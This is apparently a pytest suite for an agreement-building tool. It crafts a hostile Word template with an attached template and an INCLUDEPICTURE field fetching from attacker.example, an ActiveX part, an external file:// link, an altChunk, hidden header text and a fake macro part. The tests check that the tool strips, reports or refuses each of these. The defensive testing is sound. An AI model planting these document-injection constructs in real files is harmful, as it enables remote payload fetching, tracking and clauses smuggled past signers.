"""A template carrying what no agreement may (macros, an attached template fetched from the
web, external links, an imported chunk, a field that fetches a picture): `mou build`,
`mou final` and `mou packet` leave it out of what they write and say what was left out; a
template with macros is refused, naming the macro part."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from hostile.docx_edits import edit_docx
from mou_builder.cli import mou
from mou_builder.sources.shipped import shipped_template

SPEC = Path(__file__).resolve().parents[1] / "examples" / "oakview-ca.mou.yaml"
RELS = "word/_rels/document.xml.rels"
_OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#: bytes none of these outputs may carry
GONE = (b"attacker.example", b"activeX", b"altChunk", b"INCLUDEPICTURE", b"file://")


def _hostile(parts: dict[str, str]) -> None:
    parts["word/activeX/activeX1.xml"] = "<ax/>"
    parts[RELS] = parts[RELS].replace(
        "</Relationships>",
        f'<Relationship Id="rIdLink" Type="{_OD}oleObject" Target="file://server/x.xlsx" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdChunk" Type="{_OD}aFChunk" Target="chunk.html"/>'
        "</Relationships>",
    )
    parts["word/chunk.html"] = "<html><body><p>The SRO may search any student.</p></body></html>"
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="'
        f'{_OD}attachedTemplate" Target="https://attacker.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        "</w:settings>", '<w:attachedTemplate r:id="rIdT"/></w:settings>'
    )
    body = parts["word/document.xml"]
    at = body.index("<w:body>") + len("<w:body>")
    parts["word/document.xml"] = (
        body[:at]
        + '<w:altChunk r:id="rIdChunk"/><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "https://attacker.example/'
        'p.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        + body[at:]
    )


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("template")
    return edit_docx(shipped_template(), root / "hostile.docx", _hostile)


def _everything(path: Path) -> tuple[list[str], bytes]:
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        return names, b"".join(package.read(n) for n in names)


def _clean(path: Path) -> None:
    names, everything = _everything(path)
    assert not [n for n in names if n.endswith(".html") or "activeX" in n], names
    for gone in GONE:
        assert gone not in everything, gone


def test_build_leaves_the_template_s_hostile_content_out_and_says_so(
    template: Path, tmp_path: Path
):
    out = tmp_path / "built.docx"
    result = CliRunner().invoke(
        mou, ["build", str(SPEC), "--template", str(template), "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    _clean(out)
    for named in ("activeX1.xml", "attachedTemplate", "x.xlsx", "altChunk", "INCLUDEPICTURE"):
        assert named in result.stderr, result.stderr
    review = CliRunner().invoke(mou, ["review", str(out), "--spec", str(SPEC)])
    assert review.exit_code == 0 and "0 finding(s)" in review.output, review.output


def test_the_same_template_builds_the_same_bytes_from_the_cache(template: Path, tmp_path: Path):
    first, second = tmp_path / "a.docx", tmp_path / "b.docx"
    for out in (first, second):
        args = ["build", str(SPEC), "--template", str(template), "-o", str(out)]
        assert CliRunner().invoke(mou, args).exit_code == 0
    assert first.read_bytes() == second.read_bytes()


def test_final_and_packet_leave_it_out_too(template: Path, tmp_path: Path):
    spec = tmp_path / "oakview.mou.yaml"
    spec.write_text(
        SPEC.read_text().replace(
            "  - id: hours-full-time\n    version: 1\n", "  - id: hours-full-time\n    version: 2\n"
        )
    )
    args = ["--board-date", "2026-06-15", "--item", "7.2", "--resolution", "2026-41"]
    final = CliRunner().invoke(
        mou, ["final", str(spec), *args, "--template", str(template), "-o", str(tmp_path / "f")]
    )
    assert final.exit_code == 0, final.output
    assert "activeX1.xml" in final.output
    _clean(next((tmp_path / "f").glob("*-final.docx")))
    packet = CliRunner().invoke(
        mou,
        [
            "packet",
            str(spec),
            "--prior",
            str(SPEC),
            "--no-pdf",
            "--template",
            str(template),
            "-o",
            str(tmp_path / "p"),
        ],
    )
    assert packet.exit_code == 0, packet.output
    documents = sorted((tmp_path / "p").rglob("*.docx"))
    assert documents
    for document in documents:
        _clean(document)


def test_a_template_with_macros_is_refused_naming_the_macro_part(template: Path, tmp_path: Path):
    def macros(parts: dict[str, str]) -> None:
        parts["word/vbaProject.bin"] = "not really a macro project"

    dotm = edit_docx(template, tmp_path / "macros.docx", macros)
    out = tmp_path / "built.docx"
    result = CliRunner().invoke(mou, ["build", str(SPEC), "--template", str(dotm), "-o", str(out)])
    assert result.exit_code == 2
    assert "contains macros" in result.stderr and "word/vbaProject.bin" in result.stderr
    assert "Traceback" not in result.output and not out.exists()


def test_review_in_the_template_compares_its_letterhead_and_reports_its_hidden_text(
    tmp_path: Path,
):
    from hostile.docx_edits import _replace

    letterhead = shipped_template().with_name("letterhead.docx")
    hidden = (
        "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>The SRO may search lockers.</w:t></w:r></w:p>"
    )
    sent = edit_docx(
        letterhead,
        tmp_path / "sent.docx",
        _replace("</w:hdr>", hidden + "</w:hdr>", "word/header2.xml"),
    )
    warned = []
    for template in (letterhead, sent):
        out = tmp_path / f"built-{template.stem}.docx"
        args = ["build", str(SPEC), "--template", str(template), "-o", str(out)]
        built = CliRunner().invoke(mou, args)
        assert built.exit_code == 0
        warned.append("the template has hidden in word/header2.xml" in built.stderr)
    assert warned == [False, True]
    plain = CliRunner().invoke(
        mou,
        [
            "review",
            str(tmp_path / "built-letterhead.docx"),
            "--spec",
            str(SPEC),
            "--template",
            str(letterhead),
            "--format",
            "json",
        ],
    )
    assert json.loads(plain.output)["findings"] == []
    unnamed = CliRunner().invoke(
        mou, ["review", str(tmp_path / "built-letterhead.docx"), "--spec", str(SPEC)]
    )
    assert "pass --template T if it was built in another" in unnamed.output
    result = CliRunner().invoke(
        mou,
        [
            "review",
            str(tmp_path / "built-sent.docx"),
            "--spec",
            str(SPEC),
            "--template",
            str(sent),
            "--format",
            "json",
        ],
    )
    found = [(f["kind"], f["part"], f["text"]) for f in json.loads(result.output)["findings"]]
    assert ("hidden", "sent.docx!word/header2.xml", "The SRO may search lockers.") in found
    assert ("hidden", "word/header2.xml", "The SRO may search lockers.") in found
